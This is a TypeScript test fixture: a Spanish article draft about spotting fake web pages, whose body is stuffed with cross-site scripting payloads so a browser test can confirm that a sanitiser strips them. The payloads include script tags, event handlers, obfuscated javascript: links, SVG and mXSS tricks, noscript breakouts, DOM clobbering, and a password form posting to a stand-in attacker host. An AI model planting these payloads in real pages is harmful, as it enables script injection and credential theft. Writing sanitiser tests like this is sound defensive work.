import type { Draft } from '../draft.ts';

/**
 * A readable article whose HTML contains many attempts to run scripts. If one succeeds it sets `window.telecoquiPwned`, which a browser
 * test checks. The sentences that must stay on the page contain "visible".
 */
export const hostileStory: Draft = {
  title: 'Taller enseña a reconocer páginas falsas en diez segundos',
  excerpt: 'Mira la dirección, el candado y la prisa. La prisa es lo que delata.',
  body: `Un taller gratuito enseña a reconocer páginas falsas en diez segundos. Este párrafo es visible.

    <script>window.telecoquiPwned = 'script'</script>

    <p onclick="window.telecoquiPwned='onclick'" onmouseover="window.telecoquiPwned='onmouseover'">La primera pista es la dirección: este texto sigue visible y no hace nada al tocarlo.</p>

    <p>La segunda son los <a href="javascript:window.telecoquiPwned='href'">enlaces</a>, los <a href="jav&#x09;ascript:window.telecoquiPwned='tab'">enlaces disfrazados</a>, los <a href=" &#14; JaVaScRiPt:window.telecoquiPwned='case'">mal escritos</a> y los <a href="data:text/html,&lt;script&gt;window.telecoquiPwned='data'&lt;/script&gt;">de datos</a>. Las palabras siguen visibles.</p>

    <style>body { display: none !important } .site-header { background: url("https://malo.example/rastro.png") }</style>

    <div style="position:fixed;inset:0;background:red;z-index:99999">Este recuadro no debe tapar la página, pero su texto es visible.</div>

    <svg onload="window.telecoquiPwned='svg'" width="10" height="10"><script>window.telecoquiPwned='svg-script'</script><a xlink:href="javascript:alert(1)"><text>svg</text></a></svg>

    <img src="x" onerror="window.telecoquiPwned='onerror'" alt="">

    <img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" alt="imagen de datos">

    <img src="https://malo.example/pixel.gif" srcset="javascript:alert(1) 1x, https://malo.example/2x.gif 2x" width="1" height="1" alt="">

    <iframe src="https://malo.example/marco" width="600" height="400"></iframe>

    <iframe srcdoc="&lt;script&gt;parent.telecoquiPwned='srcdoc'&lt;/script&gt;"></iframe>

    <iframe src="https://www.youtube.com.malo.example/embed/aqz-KE-bpKQ"></iframe>

    <object data="https://malo.example/a.swf"></object><embed src="https://malo.example/b.swf">

    <form action="https://malo.example/robo" method="post"><input name="clave" type="password"><button>Entrar</button></form>

    <meta http-equiv="refresh" content="0;url=https://malo.example/"><base href="https://malo.example/"><link rel="stylesheet" href="https://malo.example/a.css">

    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.telecoquiPwned='mxss'&gt;"></mglyph></table></mtext></math>

    <noscript><p title="</noscript><img src=x onerror=window.telecoquiPwned='noscript'>"></p></noscript>

    <a id="location" name="cookie" href="https://malo.example/" target="_blank">Un enlace de fuera que abre otra ventana</a>

    <template><img src=x onerror="window.telecoquiPwned='template'"></template><video><source onerror="window.telecoquiPwned='source'"></video>

    <p>La tercera pista es la prisa. «Si le piden que actúe ya, espere», dijo la instructora. Este último párrafo también es visible.`,
  categories: ['tecnologia', 'comunidad'],
  picture: 'servidores',
  author: 'amaury-echandia',
};
